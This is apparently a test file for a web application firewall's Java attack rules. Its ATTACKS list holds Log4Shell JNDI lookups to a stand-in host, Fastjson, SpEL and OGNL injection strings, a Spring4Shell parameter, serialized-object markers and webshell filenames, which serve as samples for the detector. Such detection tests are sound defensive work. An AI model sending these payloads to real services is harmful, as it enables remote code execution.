import test from "ava";
import { join } from "node:path";
import { DEFAULT_SETTINGS, WafEngine, type WafVerdict } from "../../../../proxy/waf/engine.js";
import { loadRules } from "../../../../proxy/waf/rule-file.js";
import { bundledRulesDir } from "../../../../proxy/waf/settings.js";
import type { WafInput } from "../../../../proxy/waf/types.js";

const rules = loadRules(join(bundledRulesDir(), "135-java.yaml"));
const engines = new Map<number, WafEngine>();

function engineAt(paranoia: number): WafEngine {
  let e = engines.get(paranoia);
  if (e === undefined) {
    e = new WafEngine(rules, { ...DEFAULT_SETTINGS, paranoia, detectionParanoia: paranoia });
    engines.set(paranoia, e);
  }
  return e;
}

// rawquery: the query string exactly as sent; path: the request path exactly as sent;
// jsonraw: a whole JSON body; plain: a text/plain body (no parser takes it apart);
// header: an application header (x-api-version); ctype: the Content-Type header.
type Place =
  | "query"
  | "rawquery"
  | "form"
  | "json"
  | "jsonraw"
  | "plain"
  | "cookie"
  | "header"
  | "ctype"
  | "ua"
  | "referer"
  | "xml"
  | "upload"
  | "x-filename"
  | "path";

function request(place: Place, value: string): WafInput {
  const host: [string, string] = ["host", "x"];
  const get = (uri: string, ...headers: [string, string][]): WafInput => ({ method: "GET", uri, protocol: "HTTP/1.1", headers: [host, ...headers] });
  const post = (type: string, body: string): WafInput => ({
    method: "POST",
    uri: "/app",
    protocol: "HTTP/1.1",
    headers: [host, ["content-type", type]],
    body: Buffer.from(body, "latin1"),
  });
  switch (place) {
    case "query":
      return get(`/app?v=${encodeURIComponent(value)}`);
    case "rawquery":
      return get(`/app?${value}`);
    case "form":
      return post("application/x-www-form-urlencoded", `v=${encodeURIComponent(value)}`);
    case "json":
      return post("application/json", JSON.stringify({ data: { v: value } }));
    case "jsonraw":
      return post("application/json", value);
    case "plain":
      return post("text/plain", value);
    case "xml":
      return post("application/xml", `<?xml version="1.0"?><r><v a="${value.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;")}"/></r>`);
    case "cookie":
      return get("/app", ["cookie", `a=1; v=${value}`]);
    case "header":
      return get("/app", ["x-api-version", value]);
    case "ctype":
      return get("/app", ["content-type", value]);
    case "x-filename":
      return get("/app", ["x-filename", value]);
    case "ua":
      return get("/app", ["user-agent", value]);
    case "referer":
      return get("/app", ["referer", value]);
    case "path":
      return get(value);
    case "upload": {
      const b = "----b0undary";
      const body = `--${b}\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--${b}--\r\n`;
      return post(`multipart/form-data; boundary=${b}`, body);
    }
  }
}

function verdict(paranoia: number, place: Place, value: string): WafVerdict {
  return engineAt(paranoia).evaluate(request(place, value), { route: "", path: "/app" });
}

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  ["ua", "${jndi:ldap://evil.example/a}", 1],
  ["header", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", 1],
  ["query", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", 1],
  ["json", "$\\u007Bjndi:dns://evil.example/a}", 1],
  ["form", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", 1],
  ["json", "$&lbrace;jndi:ldap://evil.example/a}", 1],
  ["cookie", "${env:NOPE:-j}ndi", 1],
  ["path", "/${jndi:ldap://evil.example/x}", 1],
  ["plain", "user=${jndi:ldap://evil.example/a}", 1],
  ["xml", "${jndi:ldap://evil.example/x}", 1],
  ["query", "java.lang.Runtime", 1],
  ["jsonraw", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\",\"autoCommit\":true}", 1],
  ["form", "T(java.lang.Runtime).getRuntime().exec('id')", 1],
  ["query", "Class.forName('java.lang.Runtime')", 1],
  ["json", "#{T(java.lang.Runtime).getRuntime().exec('id')}", 1],
  ["ctype", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}", 1],
  ["rawquery", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 1],
  ["cookie", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 1],
  ["plain", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", 1],
  ["plain", "test=java.lang.ProcessBuilder", 1],
  ["query", "aced00057372", 1],
  ["json", "ProcessBuilder.evil.InvokerTransformer", 1],
  ["query", "runtime.forclosure", 1],
  ["upload", "shell.jsp", 1],
  ["x-filename", "cmd.jspx. ", 1],
  ["query", "payload:rO0ABXNyAB", 2],
  ["form", "java evil runtime", 2],
  ["query", "cnVudGltZQ", 3],
  ["query", "${anything}", 4],
];

for (const [place, payload, pl] of ATTACKS) {
  test(`blocks at PL${pl} (${place}): ${JSON.stringify(payload)}`, (t) => {
    const v = verdict(pl, place, payload);
    t.is(v.action, "block", JSON.stringify(v.matches.map((m) => m.id)));
    t.true(v.matches.every((m) => m.id >= 135000 && m.id <= 135999));
    if (pl > 1) t.is(verdict(pl - 1, place, payload).action, "pass", "belongs to the stricter level only");
  });
}

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["ua", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", true],
  ["ua", "Java/1.8.0_292", true],
  ["query", "Looking for a Java developer", true],
  ["form", "I love JavaScript and TypeScript", true],
  ["json", "runtime: 2h 15m", true],
  ["query", "price=${price}", true],
  ["form", "Total: $ {amount}", true],
  ["query", "com.example.app", true],
  ["json", "org.example.service", true],
  ["cookie", "ABCDEF0123456789", true],
  ["header", "1b4e28ba-2fa1-11d2-883f-0016d3cca427", true],
  ["query", "java.util.List", true],
  ["form", "My notes about the ProcessBuilder API", true],
  ["upload", "page.jsp.txt", true],
  ["x-filename", "notes.html", true],
  ["json", "Hello {{name}}", true],
  ["query", "rO0", true],
  ["form", "%{count} items", true],
  ["json", "a@b.com", true],
  ["rawquery", "sort=runtime&lang=java", true],
  ["plain", "Hello, this is a plain text note about the forclosure of my house.", true],
  ["ctype", "application/json; charset=utf-8", true],
  ["path", "/api/v1/orders/123", true],
  ["xml", "Item #42 @ 5 EUR", true],
];

for (const [place, value, alsoPl2] of BENIGN) {
  test(`passes at PL1${alsoPl2 ? " and PL2" : ""} (${place}): ${JSON.stringify(value)}`, (t) => {
    const v1 = verdict(1, place, value);
    t.is(v1.action, "pass", JSON.stringify(v1.matches.map((m) => `${m.id}:${m.match}`)));
    if (alsoPl2) {
      const v2 = verdict(2, place, value);
      t.is(v2.action, "pass", JSON.stringify(v2.matches.map((m) => `${m.id}:${m.match}`)));
    }
  });
}

test("a Log4Shell payload in any header is blocked and reported with the header's name", (t) => {
  const v = engineAt(1).evaluate(
    { method: "GET", uri: "/", protocol: "HTTP/1.1", headers: [["host", "x"], ["x-forwarded-for", "${jndi:ldap://evil.example/a}"]] },
    { route: "", path: "/" },
  );
  t.is(v.action, "block");
  t.true(v.matches.some((m) => m.id === 135100 && m.target === "headers:x-forwarded-for"));
});

test("every rule is in the file's id range and carries the attack-java and owasp-a03 tags", (t) => {
  t.true(rules.length >= 10);
  for (const r of rules) {
    t.true(r.id >= 135000 && r.id <= 135999, String(r.id));
    t.true(r.tags.includes("attack-java") && r.tags.includes("owasp-a03"), String(r.id));
  }
});
